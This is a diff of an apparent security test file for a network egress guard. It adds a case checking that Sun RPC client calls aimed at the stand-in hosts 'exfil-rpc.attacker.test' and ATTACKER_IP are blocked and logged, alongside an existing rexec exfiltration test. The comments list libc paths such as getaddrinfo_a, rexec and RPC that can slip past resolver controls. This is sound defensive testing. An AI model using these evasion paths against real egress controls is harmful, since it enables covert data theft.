@@ -1,12 +1,16 @@
 // Attacks through the other libc entry points that resolve names (docs/COVERAGE.md "Lookups"): getaddrinfo_a (its
 // worker thread calls getaddrinfo inside libc, unseen since glibc 2.34), the networks database (getnetbyname,
-// getnetbyaddr and their _r forms go to DNS with `networks: … dns`), and the BSD r-services (rexec, rcmd, ruserok
+// getnetbyaddr and their _r forms go to DNS with `networks: … dns`), the BSD r-services (rexec, rcmd, ruserok
 // resolve and connect inside libc; rexec needs no privilege and sends a user, a password and a command to any
-// address). Plain Python through ctypes in the program's own symbol scope, as `nobody`, in enforce mode; passing = no
-// query (nor connection) for anything the policy does not allow, and a guard line naming it.
+// address) and the Sun RPC client (clnt_create, callrpc … — what a binary built against an older glibc binds to).
+// Plain Python through ctypes in the program's own symbol scope, or a C program, as `nobody`, in enforce mode;
+// passing = no query (nor connection, nor datagram) for anything the policy does not allow, and a guard line naming it.
+import { spawnSync } from 'node:child_process';
+import { chmodSync } from 'node:fs';
+import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { needCommand, needNetns } from '../support/capability.js';
-import { needLibrary } from '../support/guard.js';
+import { needLibrary, ROOT, scratchDir } from '../support/guard.js';
 import {
   ATTACKER_IP,
   createResolverWorld,
@@ -17,7 +21,12 @@ import {
   SERVICE_IP,
 } from './resolver-world.js';
 
-const ok = needNetns() && needLibrary() && needCommand('setpriv', '--version') && needCommand(PYTHON, '--version');
+const ok =
+  needNetns() &&
+  needLibrary() &&
+  needCommand('setpriv', '--version') &&
+  needCommand(PYTHON, '--version') &&
+  needCommand('gcc');
 
 const POLICY = `version: 1
 mode: enforce
@@ -73,6 +82,7 @@ print(json.dumps(out))`;
 describe.skipIf(!ok)('resolver attacks: getaddrinfo_a, the networks database, the r-services', () => {
   let world: ResolverWorld;
   let policy: string;
+  let sunrpc: string;
   beforeAll(async () => {
     world = await createResolverWorld({
       prefix: 'egre',
@@ -85,6 +95,11 @@ describe.skipIf(!ok)('resolver attacks: getaddrinfo_a, the networks database, th
     });
     world.ns.setEtc('nsswitch.conf', NSSWITCH);
     policy = world.policy('entry', POLICY);
+    sunrpc = join(scratchDir(), 'resolver_sunrpc');
+    const src = join(ROOT, 'test/adversarial/programs/resolver_sunrpc.c');
+    const cc = spawnSync('gcc', ['-O1', '-o', sunrpc, src], { encoding: 'utf8' });
+    if (cc.status !== 0) throw new Error(`building resolver_sunrpc failed: ${cc.stderr}`);
+    chmodSync(sunrpc, 0o755);
   });
   afterAll(() => world?.destroy());
 
@@ -154,5 +169,24 @@ print(json.dumps([
       expect(guardLines(r.logs, { call, rule: 'unsupported-call', blocked: true }).length, call).toBeGreaterThan(0);
     }
     expect(guardLines(r.logs, { call: 'rexec', host: 'exfil-rexec.attacker.test', port: 443 })).toHaveLength(1);
+  });
+
+  it('the Sun RPC client (compat symbols of glibc 2.32+): no lookup, no connection, no datagram', async () => {
+    const before = { echo: world.dns.of('echo').length, udp: world.dns.of('udp').length };
+    const r = await world.attack({
+      lang: 'python',
+      policy,
+      code: `import os; os.execv(${JSON.stringify(sunrpc)}, ["rpc", "exfil-rpc.attacker.test", "${ATTACKER_IP}"])`,
+    });
+    // clnt_create NULL, callrpc RPC_CANTSEND, getrpcport 0, clnttcp_create NULL, pmap_getport 0, rtime -1
+    expect(r.out, explainRun(r)).toEqual([0, 3, 0, 0, 0, -1]);
+    expect(r.queries.filter(attackerName), explainRun(r)).toEqual([]);
+    await world.dns.waitFor(() => false, 300);
+    expect(world.dns.of('echo').length).toBe(before.echo);
+    expect(world.dns.of('udp').length).toBe(before.udp);
+    for (const call of ['clnt_create', 'callrpc', 'getrpcport', 'clnttcp_create', 'pmap_getport', 'rtime']) {
+      expect(guardLines(r.logs, { call, rule: 'unsupported-call', blocked: true }), call).toHaveLength(1);
+    }
+    expect(guardLines(r.logs, { call: 'clnttcp_create', ip: ATTACKER_IP, port: 443 })).toHaveLength(1);
   });
 });
